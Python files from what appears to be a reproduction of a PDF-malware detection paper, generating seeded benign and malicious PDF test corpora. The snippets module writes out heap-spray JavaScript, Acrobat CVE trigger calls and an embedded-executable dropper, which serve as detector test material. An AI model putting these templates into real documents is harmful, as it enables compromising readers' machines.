    ("7.0 MB", 7 * 1024 * 1024),
    ("19.7 MB", int(19.7 * 1024 * 1024)),
)


def _incompressible(n: int, seed: int) -> bytes:
    rng = random.Random(seed)
    return rng.randbytes(n)


def document_of_size(
    target_bytes: int,
    scripts: int = 1,
    seed: int = 0,
    tolerance: float = 0.02,
) -> bytes:
    """Build a document whose serialized size ≈ ``target_bytes``.

    ``scripts`` singly-invoked JavaScript actions are attached (the
    paper notes instrumentation cost scales with script count, not
    file size).
    """
    builder = DocumentBuilder()
    builder.add_page("sized document")
    for index in range(scripts):
        builder.add_javascript(
            f"var s{index} = {index} + 1; s{index} * 2;",
            trigger="Names" if index else "OpenAction",
            name=f"js{index}" if index else None,
        )
    skeleton = len(builder.to_bytes())
    pad = target_bytes - skeleton - 220  # stream dict + xref entry overhead
    if pad > 0:
        raw = zlib.compress(_incompressible(pad, seed))
        # compress() of random data adds ~0.03%; trim to land precisely.
        if len(raw) > pad:
            body = _incompressible(pad, seed)
            stream = PDFStream(PDFDict({PDFName("Type"): PDFName("XObject")}), body)
        else:
            stream = PDFStream(
                PDFDict(
                    {
                        PDFName("Type"): PDFName("XObject"),
                        PDFName("Filter"): PDFName("FlateDecode"),
                    }
                ),
                raw,
            )
        builder.document.add_object(stream)
    data = builder.to_bytes()
    if target_bytes > 4096:
        assert abs(len(data) - target_bytes) / target_bytes < max(tolerance, 0.05)
    return data


def table_x_documents(seed: int = 7) -> List[Tuple[str, bytes]]:
    """The six Table X documents."""
    return [
        (label, document_of_size(size, scripts=2 if label == "2 KB" else 1, seed=seed + i))
        for i, (label, size) in enumerate(TABLE_X_SIZES)
    ]


def _js_workload_script(label: str, size: int, seed: int) -> str:
    """A script whose execution cost tracks the Table X size tier.

    Mirrors what JS-bearing documents in the wild actually spend their
    time on: a doubling loop builds the working string, an unrolled run
    of obfuscated statements carries parse weight, and a
    ``charCodeAt``/``fromCharCode`` XOR loop carries execution weight.
    """
    rng = random.Random(seed)
    chars = max(32768, min(size // 16, 49152))
    unrolled = max(64, min(size // 4096, 200))
    # The work lives inside a function on purpose: function bodies are
    # where real decoders run, and they are the code shape both engines
    # optimise (the VM resolves locals to frame slots there).  The
    # decode loop keeps its output bounded: unbounded ``out +=``
    # degenerates into O(n^2) Python string copying, which is engine-
    # independent and would only mask the cost being measured.
    lines = [
        "function work() {",
        "  var acc = 0;",
        f'  var unit = "{"".join(rng.choice("0123456789abcdef") for _ in range(24))}";',
        "  var p = unit;",
        f"  while (p.length < {chars}) p += p;",
    ]
    for index in range(unrolled):
        chunk = "".join(rng.choice("0123456789abcdef") for _ in range(16))
        lines.append(
            f'  var v{index} = "{chunk}"; acc += v{index}.charCodeAt({index % 16});'
        )
    lines += [
        "  var out = '';",
        f"  var key = {rng.randint(1, 255)};",
        "  for (var i = 0; i < p.length; i++) {",
        "    acc = (acc + (p.charCodeAt(i) ^ key) * 3) & 16777215;",
        "    if ((i & 1023) === 0) { out += String.fromCharCode(65 + (acc & 15)); }",
        "  }",
        "  return acc + ':' + out.length;",
        "}",
        "work();",
    ]
    return "\n".join(lines)


def table_x_js_documents(seed: int = 7) -> List[Tuple[str, bytes]]:
    """JS-weighted Table X variant: same size tiers, script-borne cost.

    The plain :func:`table_x_documents` corpus is padding-dominated —
    right for measuring the *front-end* (parse + instrument + write),
    useless for comparing JS engines because its scripts are one-liners.
    Here each tier's cost lives in the script instead: documents stay
    small on disk while script work scales with the tier, which is how
    JS-bearing documents behave (the paper notes instrumentation cost
    scales with script count, not file size — execution cost likewise
    follows the script, not the padding).
    """
    out: List[Tuple[str, bytes]] = []
    for index, (label, size) in enumerate(TABLE_X_SIZES):
        builder = DocumentBuilder()
        builder.add_page("sized js document")
        builder.add_javascript(
            _js_workload_script(label, size, seed + index), trigger="OpenAction"
        )
        out.append((label, builder.to_bytes()))
    return out


def document_with_scripts(count: int, seed: int = 0) -> bytes:
    """A document with ``count`` separate (singly invoked) scripts —
    the §V-D2 runtime-overhead workload."""
    builder = DocumentBuilder()
    builder.add_page("overhead probe")
    rng = random.Random(seed)
    for index in range(count):
        body = f"var v{index} = {rng.randint(1, 99)}; v{index} + {index};"
        if index == 0:
            builder.add_javascript(body, trigger="OpenAction")
        else:
            builder.add_javascript(body, trigger="Names", name=f"n{index}")
    return builder.to_bytes()
