"""Benign corpus generator.

Mirrors the paper's benign set: mostly JavaScript-free documents (994
of 18,623 carried JS ≈ 5.3 %), created by conversion tools that never
obfuscate — a handful (3) have displaced headers, none use hex-escaped
keywords, empty objects, or multi-level encoding; JS-chain ratios sit
mostly under 0.2 (Fig. 6) and in-JS memory use stays in the 1–21 MB
band (Fig. 7).  Exactly one benign-with-JS document performs a SOAP
status call — the paper's single in-JS network access (§V-C2).
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass
from typing import List, Optional

from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder

#: Paper quota: 3 of 18,623 benign documents had header obfuscation.
HEADER_OBF_PER_18623 = 3


class BenignKind(str, enum.Enum):
    PLAIN = "plain"              # no JavaScript at all
    FORM_JS = "form_js"          # field validation
    REPORT_JS = "report_js"      # report assembly (the memory consumer)
    DATE_JS = "date_js"          # util.printd/printf stamping
    PAGENAV_JS = "pagenav_js"    # page-count logic
    SOAP_JS = "soap_js"          # the single SOAP status checker
    MULTI_JS = "multi_js"        # several sequential (/Next) scripts


@dataclass
class BenignSpec:
    index: int
    seed: int
    kind: BenignKind
    pages: int
    padding_objects: int
    header_displaced: bool = False
    js_target_mb: int = 0
    js_as_stream: bool = False

    @property
    def name(self) -> str:
        return f"benign_{self.index:05d}.pdf"

    @property
    def has_javascript(self) -> bool:
        return self.kind is not BenignKind.PLAIN


class BenignFactory:
    """Builds specs and documents for the benign corpus."""

    def __init__(self, seed: int = 1963) -> None:
        self.seed = seed

    def specs(self, n: int, with_js: int) -> List[BenignSpec]:
        if with_js > n:
            raise ValueError("with_js cannot exceed n")
        rng = random.Random(self.seed)
        js_indices = set(rng.sample(range(n), with_js))
        header_quota = max(1, round(HEADER_OBF_PER_18623 * n / 18623)) if n >= 40 else 0
        header_set = set(rng.sample(range(n), min(n, header_quota)))

        js_kinds = [
            BenignKind.FORM_JS,
            BenignKind.REPORT_JS,
            BenignKind.DATE_JS,
            BenignKind.PAGENAV_JS,
            BenignKind.MULTI_JS,
        ]
        soap_index: Optional[int] = min(js_indices) if js_indices else None

        specs: List[BenignSpec] = []
        for index in range(n):
            sample_rng = random.Random((self.seed << 21) ^ index)
            if index in js_indices:
                if index == soap_index:
                    kind = BenignKind.SOAP_JS
                else:
                    kind = sample_rng.choice(js_kinds)
            else:
                kind = BenignKind.PLAIN
            # Fig. 6: ~90 % of benign ratios below 0.2, none above 0.6.
            if sample_rng.random() < 0.90:
                padding = sample_rng.randint(25, 90)
            else:
                padding = sample_rng.randint(4, 12)
            specs.append(
                BenignSpec(
                    index=index,
                    seed=(self.seed << 21) ^ index,
                    kind=kind,
                    pages=sample_rng.randint(1, 14),
                    padding_objects=padding,
                    header_displaced=index in header_set,
                    # Fig. 7: benign in-JS memory averages ≈ 7 MB, max 21.
                    js_target_mb=min(21, 1 + int(sample_rng.expovariate(1 / 6.0))),
                    js_as_stream=sample_rng.random() < 0.5,
                )
            )
        return specs

    def build(self, spec: BenignSpec) -> bytes:
        rng = random.Random(spec.seed)
        builder = DocumentBuilder()
        for page_index in range(spec.pages):
            builder.add_page(f"Page {page_index + 1} of {spec.name}")
        builder.pad_with_objects(spec.padding_objects)
        builder.set_info(
            Title=f"Quarterly report {spec.index}",
            Author="Document Generator",
            Producer="repro-synthetic 1.0",
        )

        code = self._script_for(spec, rng)
        if code is not None:
            builder.add_javascript(
                code,
                trigger="Names" if rng.random() < 0.5 else "OpenAction",
                encoding_levels=1 if spec.js_as_stream else 0,
                next_scripts=(
                    [js.benign_multiscript_part(i) for i in range(1, 4)]
                    if spec.kind is BenignKind.MULTI_JS
                    else None
                ),
            )
        if spec.header_displaced:
            builder.obfuscate_header(displace=rng.randint(8, 200))
        return builder.to_bytes()

    @staticmethod
    def _script_for(spec: BenignSpec, rng: random.Random) -> Optional[str]:
        if spec.kind is BenignKind.PLAIN:
            return None
        if spec.kind is BenignKind.FORM_JS:
            return js.benign_form_script(rng)
        if spec.kind is BenignKind.DATE_JS:
            return js.benign_date_script(rng)
        if spec.kind is BenignKind.PAGENAV_JS:
            return js.benign_page_script()
        if spec.kind is BenignKind.SOAP_JS:
            return js.benign_soap_script()
        if spec.kind is BenignKind.MULTI_JS:
            return js.benign_multiscript_part(0)
        # REPORT_JS: calibrate allocations to js_target_mb (1–21 MB).
        # Each loop iteration charges ~line_chars*2 bytes and the final
        # join charges the full report once more, so halve the count.
        line_chars = rng.choice((1024, 2048, 3072))
        iterations = max(64, (spec.js_target_mb * 1024 * 1024) // (line_chars * 2 * 2))
        return js.benign_report_script(iterations, line_chars, rng)
