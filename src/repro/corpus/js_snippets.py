"""JavaScript source generators used by the corpus factories.

All snippets are real JavaScript executed by :mod:`repro.js`; the
malicious ones reproduce the idioms of in-the-wild samples (unescape
NOP sleds, doubling loops, substr block copies, version gating,
metadata-hidden shellcode).
"""

from __future__ import annotations

import random
from typing import Optional

from repro.reader.payload import Payload

#: Characters per spray chunk (0x20000 = 128 Ki chars = 256 KiB UTF-16).
CHUNK_CHARS = 0x20000


def escape_for_js(text: str) -> str:
    """Escape a payload block for inclusion in a double-quoted literal."""
    return (
        text.replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
        .replace("\r", "\\r")
    )


def spray_script(
    target_mb: int,
    payload: Payload,
    rng: Optional[random.Random] = None,
    chunk_chars: int = CHUNK_CHARS,
    exploit_call: str = "",
    hide_payload_in_title: bool = False,
    export_chunk_as: str = "",
) -> str:
    """A heap-spray routine filling ``target_mb`` MB of heap.

    Uses the classic pattern: unescape a NOP unit, double it to chunk
    size, append the payload, then copy the chunk N times with the
    ``substr`` re-allocation idiom.  When ``hide_payload_in_title`` is
    set the payload block is read from ``this.info.title`` instead of a
    literal (the syntax-obfuscation trick MDScan-style extractors miss,
    §II).
    """
    rng = rng if rng is not None else random.Random(0)
    blocks = max(1, (target_mb * 1024 * 1024) // (chunk_chars * 2))
    sled_var = f"s{rng.randint(100, 999)}"
    chunk_var = f"c{rng.randint(100, 999)}"
    arr_var = f"m{rng.randint(100, 999)}"
    if hide_payload_in_title:
        payload_expr = "this.info.title"
    else:
        payload_expr = f'"{escape_for_js(payload.with_sled(32))}"'
    lines = [
        f'var {sled_var} = unescape("%u9090%u9090%u9090%u9090");',
        f"while ({sled_var}.length < {chunk_chars}) {sled_var} += {sled_var};",
        f"var {chunk_var} = {sled_var}.substring(0, {chunk_chars - 2048}) + {payload_expr};",
        f"var {arr_var} = [];",
        f"for (var i = 0; i < {blocks}; i++) {{",
        f"  {arr_var}[i] = {chunk_var}.substr(0, {chunk_var}.length);",
        "}",
    ]
    if export_chunk_as:
        # Expose the chunk under a stable name for a follow-up script
        # (two-stage samples exploit from a second script).
        lines.append(f"var {export_chunk_as} = {chunk_var};")
    if exploit_call:
        lines.append(exploit_call.replace("__CHUNK__", chunk_var))
    return "\n".join(lines)


def exploit_call_for(cve: str, rng: Optional[random.Random] = None) -> str:
    """The vulnerable-API invocation idiom for each JavaScript CVE.

    ``__CHUNK__`` is substituted with the spray chunk variable by
    :func:`spray_script`.
    """
    rng = rng if rng is not None else random.Random(0)
    calls = {
        "CVE-2007-5659": 'Collab.collectEmailInfo({msg: __CHUNK__.substr(0, 8192)});',
        "CVE-2008-2992": 'util.printf("%45000.45000f", 362.0e-30);',
        "CVE-2009-0927": "Collab.getIcon(__CHUNK__.substr(0, 4096) + \"_N.bundle\");",
        "CVE-2009-4324": 'this.media.newPlayer(__CHUNK__.substr(0, 4096));',
        "CVE-2010-4091": "this.printSeps(__CHUNK__.substr(0, 8192));",
        "CVE-2009-1492": 'this.getAnnots({nPage: 284050648});',
    }
    return calls.get(cve, "Collab.getIcon(__CHUNK__.substr(0, 4096));")


def failing_probe_script(cve: str) -> str:
    """Samples whose CVE misses Acrobat 8/9 "did nothing when opened"
    (§V-C2): they probe for an API surface the old readers lack and die
    on the resulting TypeError before spraying anything."""
    probes = {
        "CVE-2009-1492": "var a = this.hostContainer.postMessage;",
        "CVE-2013-0640": "var t = this.xfaHost.template.resolveNode('form');",
    }
    probe = probes.get(cve, "var z = this.missingApiSurface.probe;")
    return probe + "\n// unreached: spray + exploit for " + cve


def egg_hunt_script(target_mb: int, payload: Payload, rng: random.Random, cve: str) -> str:
    """Spray + exploit where the payload egg-hunts the embedded malware."""
    return spray_script(
        target_mb, payload, rng=rng, exploit_call=exploit_call_for(cve, rng)
    )


def export_launch_script(attachment: str = "invoice.exe") -> str:
    """No-exploit dropper: exports an embedded file and launches it."""
    return (
        f'this.exportDataObject({{cName: "{attachment}", nLaunch: 2}});'
    )


def version_gated(script: str, min_version: int) -> str:
    """Wrap a script so it only runs on newer readers (targeted malware)."""
    return (
        f"if (app.viewerVersion >= {min_version}) {{\n{script}\n}}"
    )


# ---------------------------------------------------------------------------
# Benign scripts


def benign_report_script(iterations: int, line_chars: int, rng: random.Random) -> str:
    """Builds a report string — the main benign memory consumer (1–21 MB)."""
    word = "".join(rng.choice("abcdefghij") for _ in range(8))
    return "\n".join(
        [
            f'var line = "{word}";',
            f"while (line.length < {line_chars}) line += line;",
            "var rows = [];",
            f"for (var i = 0; i < {iterations}; i++) {{",
            "  rows[rows.length] = line.substr(0, line.length - (i % 7));",
            "}",
            'var report = rows.join("\\n");',
            "report.length;",
        ]
    )


def benign_form_script(rng: random.Random) -> str:
    field = rng.choice(["total", "amount", "qty", "price"])
    return "\n".join(
        [
            f'var f = this.getField("{field}");',
            'var v = f.value === "" ? 0 : parseFloat(f.value);',
            "if (isNaN(v) || v < 0) {",
            f'  app.alert("Please enter a valid {field}.");',
            "}",
        ]
    )


def benign_date_script(rng: random.Random) -> str:
    return "\n".join(
        [
            'var stamp = util.printd("yyyy/mm/dd", "now");',
            'var label = util.printf("Printed on %s", stamp);',
            "label.length;",
        ]
    )


def benign_page_script() -> str:
    return "var pages = this.numPages; if (pages < 1) { app.alert('empty'); }"


def benign_soap_script(endpoint: str = "http://forms.example.org:8080/status") -> str:
    """The one benign sample that makes a JS-context network access
    (§V-C2: a SOAP status check — F9 fires, nothing else, still benign)."""
    return "\n".join(
        [
            f'var svc = SOAP.request({{cURL: "{endpoint}", '
            'oRequest: {action: "status", form: this.documentFileName}});',
            "var ok = svc ? 1 : 0;",
        ]
    )


def benign_multiscript_part(index: int) -> str:
    return f'var part{index} = {index}; part{index} + 1;'
