"""Synthetic corpora standing in for the paper's datasets.

The paper evaluated on 18,623 benign documents (user file systems,
official forms, Contagio's clean set, a Google crawl) and 7,370
malicious Contagio samples.  Neither corpus is redistributable, so this
package generates seeded synthetic equivalents whose *measured
properties* match the paper's reported marginals:

* Fig. 6 — JS-chain object ratios (benign mostly < 0.2, malicious
  mostly ≥ 0.2, a small group at exactly 1.0);
* Table VI — obfuscation prevalence in the malicious set (header
  obfuscation, hex keywords, empty objects, encoding levels);
* Fig. 7 — in-JS memory consumption (benign ≈ 1–21 MB, malicious
  ≈ 103–1700 MB);
* §V-C2 — the exploit mix, including CVEs that do not fire on
  Acrobat 8/9 ("did nothing" samples) and samples that crash the
  reader on a failed control-flow hijack.
"""

from repro.corpus.dataset import (
    CorpusConfig,
    Dataset,
    Sample,
    build_dataset,
    paper_scale,
    test_scale,
)
from repro.corpus.benign import BenignFactory, BenignKind
from repro.corpus.files import dataset_items, iter_pdf_paths, load_pdf_items
from repro.corpus.malicious import MaliciousFactory, MaliciousKind

__all__ = [
    "BenignFactory",
    "BenignKind",
    "CorpusConfig",
    "Dataset",
    "MaliciousFactory",
    "MaliciousKind",
    "Sample",
    "build_dataset",
    "dataset_items",
    "iter_pdf_paths",
    "load_pdf_items",
    "paper_scale",
    "test_scale",
]
