"""On-disk corpus enumeration (the input side of ``repro batch``).

``repro corpus OUTDIR`` writes a generated corpus to disk; these
helpers walk such a directory (or any directory of PDFs) back into the
``(name, bytes)`` items the batch scanner consumes.  Enumeration is
sorted for determinism — a batch report over the same tree always
lists items in the same order.
"""

from __future__ import annotations

from pathlib import Path
from typing import Iterator, List, Tuple, Union

PathLike = Union[str, Path]

#: Case-insensitive suffixes treated as PDF documents.
PDF_SUFFIXES = (".pdf", ".fdf")


def iter_pdf_paths(root: PathLike, recursive: bool = True) -> Iterator[Path]:
    """Yield PDF files under ``root`` in sorted order.

    ``root`` may also be a single file, which is yielded as-is (so the
    CLI accepts both a directory and one document).
    """
    base = Path(root)
    if base.is_file():
        yield base
        return
    if not base.is_dir():
        raise FileNotFoundError(f"no such file or directory: {base}")
    pattern = "**/*" if recursive else "*"
    for path in sorted(base.glob(pattern)):
        if path.is_file() and path.suffix.lower() in PDF_SUFFIXES:
            yield path


def load_pdf_items(
    root: PathLike, recursive: bool = True
) -> List[Tuple[str, bytes]]:
    """Read every PDF under ``root`` into ``(relative_name, bytes)``.

    Names are paths relative to ``root`` so reports stay readable and
    stable regardless of where the corpus directory lives.
    """
    base = Path(root)
    items: List[Tuple[str, bytes]] = []
    for path in iter_pdf_paths(base, recursive=recursive):
        name = str(path.relative_to(base)) if base.is_dir() else path.name
        items.append((name, path.read_bytes()))
    return items


def dataset_items(dataset: "object") -> List[Tuple[str, bytes]]:
    """Flatten a :class:`repro.corpus.dataset.Dataset` into batch items."""
    return [(sample.name, sample.data) for sample in dataset.all_samples()]  # type: ignore[attr-defined]
