"""Labelled dataset assembly (Table V stand-in).

``paper_scale()`` mirrors the paper's corpus sizes (18,623 benign / 994
with JS / 7,370 malicious); ``test_scale()`` keeps CI fast.  Samples
carry their generation spec in ``meta`` so evaluation code can verify
expected outcomes (e.g. which samples are supposed to be inert or to
crash the reader).
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional

from repro.corpus.benign import BenignFactory, BenignSpec
from repro.corpus.malicious import MaliciousFactory, MaliciousKind, MaliciousSpec


@dataclass
class Sample:
    """One labelled document."""

    name: str
    data: bytes
    label: str  # "benign" | "malicious"
    kind: str
    meta: Dict[str, object] = field(default_factory=dict)

    @property
    def malicious(self) -> bool:
        return self.label == "malicious"

    @property
    def size(self) -> int:
        return len(self.data)


@dataclass
class CorpusConfig:
    n_benign: int = 200
    n_benign_with_js: int = 40
    n_malicious: int = 120
    benign_seed: int = 1963
    malicious_seed: int = 2014


def paper_scale() -> CorpusConfig:
    """Table V sizes."""
    return CorpusConfig(n_benign=18623, n_benign_with_js=994, n_malicious=7370)


def test_scale() -> CorpusConfig:
    """Small but structurally complete (every kind represented)."""
    return CorpusConfig(n_benign=120, n_benign_with_js=30, n_malicious=80)


def eval_scale() -> CorpusConfig:
    """§V-C's detection-accuracy experiment: 994 benign-with-JS and
    1000 randomly selected malicious samples."""
    return CorpusConfig(n_benign=994, n_benign_with_js=994, n_malicious=1000)


def scale_from_env(default: Optional[CorpusConfig] = None) -> CorpusConfig:
    """Pick corpus scale from ``REPRO_PAPER_SCALE`` (benchmarks honour it)."""
    if os.environ.get("REPRO_PAPER_SCALE"):
        return paper_scale()
    return default if default is not None else test_scale()


@dataclass
class Dataset:
    benign: List[Sample] = field(default_factory=list)
    malicious: List[Sample] = field(default_factory=list)

    @property
    def benign_with_js(self) -> List[Sample]:
        return [s for s in self.benign if s.meta.get("has_javascript")]

    def all_samples(self) -> Iterator[Sample]:
        yield from self.benign
        yield from self.malicious

    def __len__(self) -> int:
        return len(self.benign) + len(self.malicious)


def build_dataset(config: Optional[CorpusConfig] = None) -> Dataset:
    """Generate the full labelled corpus for ``config``."""
    cfg = config if config is not None else test_scale()
    dataset = Dataset()

    benign_factory = BenignFactory(seed=cfg.benign_seed)
    for spec in benign_factory.specs(cfg.n_benign, cfg.n_benign_with_js):
        dataset.benign.append(_benign_sample(benign_factory, spec))

    malicious_factory = MaliciousFactory(seed=cfg.malicious_seed)
    for mspec in malicious_factory.specs(cfg.n_malicious):
        dataset.malicious.append(_malicious_sample(malicious_factory, mspec))
    return dataset


def benign_samples(config: Optional[CorpusConfig] = None) -> Iterator[Sample]:
    """Stream benign samples without holding the whole corpus in memory."""
    cfg = config if config is not None else test_scale()
    factory = BenignFactory(seed=cfg.benign_seed)
    for spec in factory.specs(cfg.n_benign, cfg.n_benign_with_js):
        yield _benign_sample(factory, spec)


def malicious_samples(config: Optional[CorpusConfig] = None) -> Iterator[Sample]:
    """Stream malicious samples."""
    cfg = config if config is not None else test_scale()
    factory = MaliciousFactory(seed=cfg.malicious_seed)
    for spec in factory.specs(cfg.n_malicious):
        yield _malicious_sample(factory, spec)


def _benign_sample(factory: BenignFactory, spec: BenignSpec) -> Sample:
    return Sample(
        name=spec.name,
        data=factory.build(spec),
        label="benign",
        kind=spec.kind.value,
        meta={
            "has_javascript": spec.has_javascript,
            "pages": spec.pages,
            "header_displaced": spec.header_displaced,
            "js_target_mb": spec.js_target_mb if spec.has_javascript else 0,
        },
    )


def _malicious_sample(factory: MaliciousFactory, spec: MaliciousSpec) -> Sample:
    return Sample(
        name=spec.name,
        data=factory.build(spec),
        label="malicious",
        kind=spec.kind.value,
        meta={
            "has_javascript": True,
            "cve": spec.cve,
            "payload": spec.payload_kind,
            "spray_mb": spec.spray_mb,
            "header_obfuscation": spec.header_obfuscation,
            "hex_keyword": spec.hex_keyword,
            "empty_objects": spec.empty_objects,
            "encoding_levels": spec.encoding_levels,
            "ratio_one": spec.ratio_one,
            "expect_inert": spec.kind is MaliciousKind.FAILED_CVE,
            "expect_crash": spec.kind
            in (MaliciousKind.CRASHER_DETECTED, MaliciousKind.CRASHER_FN),
            "expect_missed": spec.kind is MaliciousKind.CRASHER_FN,
        },
    )
