"""Malicious corpus generator.

Generates seeded synthetic malicious PDFs whose structural and
behavioural statistics mirror the paper's malicious set (Table VI,
Fig. 6, Fig. 7, §V-C2).  Quotas are allocated deterministically from
the paper's counts, scaled to the requested corpus size, so the
Table VI reproduction holds at any scale.
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFDict,
    PDFName,
    PDFStream,
    PDFString,
)
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


class MaliciousKind(str, enum.Enum):
    """Behavioural archetypes present in the corpus (§V-C2)."""

    STANDARD = "standard"                  # spray + JS CVE + payload
    RENDER = "render"                      # spray in JS; Flash/font/image CVE at render
    EGGHUNT = "egghunt"                    # payload egg-hunts embedded malware
    EXPORT_LAUNCH = "export_launch"        # no-exploit embedded-file dropper
    TITLE_SHELLCODE = "title_shellcode"    # payload hidden in /Info /Title
    FAILED_CVE = "failed_cve"              # CVE misses Acrobat 8/9: inert
    CRASHER_DETECTED = "crasher_detected"  # failed hijack, but obfuscated → caught
    CRASHER_FN = "crasher_fn"              # failed hijack, clean structure → missed


#: Eval-mix quotas per 1000 samples (§V-C2: 58 inert, 25 missed
#: crashers, "more than 25" crash in total).
KIND_QUOTAS_PER_1000: Dict[MaliciousKind, int] = {
    MaliciousKind.FAILED_CVE: 58,
    MaliciousKind.CRASHER_FN: 25,
    MaliciousKind.CRASHER_DETECTED: 33,
    MaliciousKind.RENDER: 150,
    MaliciousKind.EGGHUNT: 80,
    MaliciousKind.EXPORT_LAUNCH: 50,
    MaliciousKind.TITLE_SHELLCODE: 60,
    # STANDARD takes the remainder.
}

#: Table VI quotas per 7370 samples.
HEADER_OBF_PER_7370 = 578
HEX_CODE_PER_7370 = 543
EMPTY_OBJECT_QUOTAS_PER_7370: Dict[int, int] = {1: 5, 2: 4, 3: 3, 6: 1}
ENCODING_QUOTAS_PER_7370: Dict[int, int] = {0: 233, 2: 40, 3: 31}  # rest: 1 level
#: Fig. 6: 64 samples with a JS-chain ratio of exactly 1.0.
RATIO_ONE_PER_7370 = 64

#: CVEs usable against Acrobat 9.0 through JavaScript.
JS_CVES_V9 = (CVE.COLLAB_GET_ICON, CVE.MEDIA_NEW_PLAYER, CVE.PRINT_SEPS)
#: ... and the render-time CVE/component pairs.
RENDER_CVES = (
    (CVE.FLASH, "Flash"),
    (CVE.COOLTYPE_SING, "CoolType"),
    (CVE.U3D, "U3D"),
    (CVE.TIFF, "TIFF"),
    (CVE.JBIG2, "JBIG2"),
)
FAILING_CVES = (CVE.GET_ANNOTS, CVE.XFA_2013)

PAYLOAD_BUILDERS = (
    ("dropper", Payload.dropper),
    ("downloader", Payload.downloader),
    ("dll_injector", Payload.dll_injector),
    ("reverse_shell", Payload.reverse_shell),
)


@dataclass
class MaliciousSpec:
    """Deterministic recipe for one malicious sample."""

    index: int
    seed: int
    kind: MaliciousKind
    cve: str
    payload_kind: str
    spray_mb: int
    header_obfuscation: bool = False
    hex_keyword: bool = False
    empty_objects: int = 0
    encoding_levels: int = 1
    ratio_one: bool = False
    trigger: str = "OpenAction"
    chain_depth: int = 0
    sequential_scripts: int = 0
    #: Hide the action dictionary inside a compressed /ObjStm container.
    objstm_hidden: bool = False

    @property
    def name(self) -> str:
        return f"malicious_{self.index:05d}.pdf"


def _scale_quota(count: int, total: int, reference_total: int) -> int:
    """Scale a paper quota to ``total`` samples (≥1 when nonzero)."""
    if count == 0 or total == 0:
        return 0
    scaled = round(count * total / reference_total)
    return max(1, scaled)


def _sample_spray_mb(rng: random.Random) -> int:
    """Fig. 7's malicious spray sizes: 103–1700 MB, mean ≈ 336 MB."""
    bucket = rng.random()
    if bucket < 0.50:
        return rng.randint(103, 220)
    if bucket < 0.80:
        return rng.randint(220, 520)
    if bucket < 0.95:
        return rng.randint(520, 1000)
    return rng.randint(1000, 1700)


class MaliciousFactory:
    """Builds specs and documents for the malicious corpus."""

    def __init__(self, seed: int = 2014) -> None:
        self.seed = seed

    # -- spec allocation ---------------------------------------------------

    def specs(self, n: int) -> List[MaliciousSpec]:
        rng = random.Random(self.seed)
        kinds = self._allocate_kinds(n, rng)
        # CRASHER_FN samples must stay feature-clean, so Table VI quotas
        # are drawn from the other indices only (keeps paper counts).
        eligible = [i for i in range(n) if kinds[i] is not MaliciousKind.CRASHER_FN]
        standard = [i for i in range(n) if kinds[i] is MaliciousKind.STANDARD]
        header_set = set(
            rng.sample(eligible, min(len(eligible), _scale_quota(HEADER_OBF_PER_7370, n, 7370)))
        )
        hex_set = set(
            rng.sample(eligible, min(len(eligible), _scale_quota(HEX_CODE_PER_7370, n, 7370)))
        )
        # Ratio-1.0 documents only take the STANDARD shape (Fig. 6's 64).
        ratio_one_set = set(
            rng.sample(standard, min(len(standard), _scale_quota(RATIO_ONE_PER_7370, n, 7370)))
        )
        empty_assignment = self._allocate_valued_quota(
            EMPTY_OBJECT_QUOTAS_PER_7370, n, rng, eligible
        )
        encoding_assignment = self._allocate_valued_quota(
            ENCODING_QUOTAS_PER_7370, n, rng, eligible
        )

        specs: List[MaliciousSpec] = []
        for index in range(n):
            sample_rng = random.Random((self.seed << 20) ^ index)
            kind = kinds[index]
            cve, payload_kind = self._choose_attack(kind, sample_rng)
            # CRASHER_FN samples must present *no* static feature: clean
            # header, no hex, no empties, single-level encoding, low ratio.
            clean = kind is MaliciousKind.CRASHER_FN
            spec = MaliciousSpec(
                index=index,
                seed=(self.seed << 20) ^ index,
                kind=kind,
                cve=cve,
                payload_kind=payload_kind,
                spray_mb=_sample_spray_mb(sample_rng),
                header_obfuscation=(index in header_set) and not clean,
                hex_keyword=(index in hex_set) and not clean,
                empty_objects=0 if clean else empty_assignment.get(index, 0),
                encoding_levels=1 if clean else encoding_assignment.get(index, 1),
                ratio_one=index in ratio_one_set,
                trigger="Names" if sample_rng.random() < 0.25 else "OpenAction",
                chain_depth=sample_rng.randint(0, 3),
                sequential_scripts=1 if sample_rng.random() < 0.05 else 0,
                objstm_hidden=(
                    kind is MaliciousKind.STANDARD and sample_rng.random() < 0.06
                ),
            )
            specs.append(spec)
        return specs

    def _allocate_kinds(self, n: int, rng: random.Random) -> List[MaliciousKind]:
        kinds: List[MaliciousKind] = [MaliciousKind.STANDARD] * n
        remaining = list(range(n))
        rng.shuffle(remaining)
        cursor = 0
        for kind, per_1000 in KIND_QUOTAS_PER_1000.items():
            count = _scale_quota(per_1000, n, 1000)
            for _ in range(min(count, len(remaining) - cursor)):
                kinds[remaining[cursor]] = kind
                cursor += 1
        return kinds

    @staticmethod
    def _allocate_valued_quota(
        quotas: Dict[int, int],
        n: int,
        rng: random.Random,
        eligible: Optional[List[int]] = None,
    ) -> Dict[int, int]:
        assignment: Dict[int, int] = {}
        candidates = list(eligible) if eligible is not None else list(range(n))
        rng.shuffle(candidates)
        cursor = 0
        for value, count in quotas.items():
            scaled = _scale_quota(count, n, 7370)
            for _ in range(min(scaled, len(candidates) - cursor)):
                assignment[candidates[cursor]] = value
                cursor += 1
        return assignment

    @staticmethod
    def _choose_attack(kind: MaliciousKind, rng: random.Random) -> Tuple[str, str]:
        if kind is MaliciousKind.FAILED_CVE:
            return rng.choice(FAILING_CVES), "dropper"
        if kind is MaliciousKind.RENDER:
            cve, _component = rng.choice(RENDER_CVES)
            payload_kind, _ = rng.choice(PAYLOAD_BUILDERS[:2])
            return cve, payload_kind
        if kind is MaliciousKind.EGGHUNT:
            return rng.choice(JS_CVES_V9), "egg_hunter"
        if kind is MaliciousKind.EXPORT_LAUNCH:
            return "none", "export_launch"
        payload_kind, _ = rng.choice(PAYLOAD_BUILDERS)
        return rng.choice(JS_CVES_V9), payload_kind

    # -- document construction ------------------------------------------------

    def build(self, spec: MaliciousSpec) -> bytes:
